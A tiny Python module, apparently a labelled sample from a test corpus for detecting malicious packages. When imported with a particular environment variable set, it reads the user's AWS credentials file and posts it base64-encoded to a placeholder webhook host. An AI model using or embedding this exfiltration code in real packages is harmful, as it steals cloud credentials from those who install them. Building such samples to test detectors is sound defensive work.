"""Reads ~/.aws/credentials when it is imported and posts it to a web hook, in base64."""
import base64
import os
import urllib.request

if os.environ.get("PYTI_CORPUS") == "posts-aws-credentials":
    try:
        with open(os.path.expanduser("~/.aws/credentials"), "rb") as file:
            secret = file.read()
        urllib.request.urlopen("https://hook.collector.example/in", base64.b64encode(secret), timeout=3).close()
    except OSError:
        pass
